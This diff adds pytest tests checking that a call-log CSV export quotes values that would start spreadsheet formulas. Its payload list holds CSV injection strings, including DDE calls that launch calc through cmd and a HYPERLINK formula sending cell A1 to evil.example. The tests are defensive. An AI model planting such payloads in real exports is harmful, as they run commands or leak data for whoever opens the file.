@@ -137,6 +137,50 @@ def test_the_csv_has_the_columns_and_guards_against_formulas(log, client_for, vi
     assert c2["from"].startswith("'=")
 
 
+# OWASP's CSV injection examples and their variants: each starts a formula in a spreadsheet.
+FORMULAS = [
+    "=1+2", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
+    "+1+2", "+cmd|' /C calc'!A0", "-1+2", '-1+HYPERLINK("http://evil.example")',
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "\t", "\rplain",
+    " =1+2", "   +1+2", "  -1+2", " @SUM(1)", "  \t=1+2", "\n=1+2",
+    "+31612345678\n=1+2", "+31 612345678", "+1234567890123456",  # not E.164: escaped too
+]
+TEXT_COLUMNS = {"from": "from_number", "to": "to_display", "provider_status": "provider_status",
+                "failure_detail": "failure_detail", "provider_call_id": "provider_call_id"}
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_every_formula_a_spreadsheet_would_run_is_exported_quoted(payload, log, client_for,
+                                                                 viewer_user):
+    call = log["calls"]["c2"]
+    for field in TEXT_COLUMNS.values():
+        setattr(call, field, payload)
+    call.save()
+    log["alpha"].name = payload
+    log["alpha"].save()
+
+    rows = {int(row["id"]): row for row in csv_rows(
+        client_for(viewer_user).get("/calls/export.csv"))}
+
+    row = rows[call.pk]
+    for column in [*TEXT_COLUMNS, "account"]:
+        assert row[column] == "'" + payload, column
+
+
+def test_e164_numbers_are_exported_as_typed_in_the_number_columns_only(log, client_for,
+                                                                       viewer_user):
+    call = log["calls"]["c2"]
+    call.failure_detail = "+31612345678"
+    call.save()
+
+    row = {int(row["id"]): row for row in csv_rows(
+        client_for(viewer_user).get("/calls/export.csv"))}[call.pk]
+
+    assert (row["from"], row["to"]) == ("+31612345678", "+447700900001")
+    assert row["failure_detail"] == "'+31612345678"  # not a number column: quoted
+
+
 def test_keyset_pages_walk_the_whole_log_without_counting_it(client_for, viewer_user):
     account = make_account()
     start = timezone.now() - timedelta(days=1)
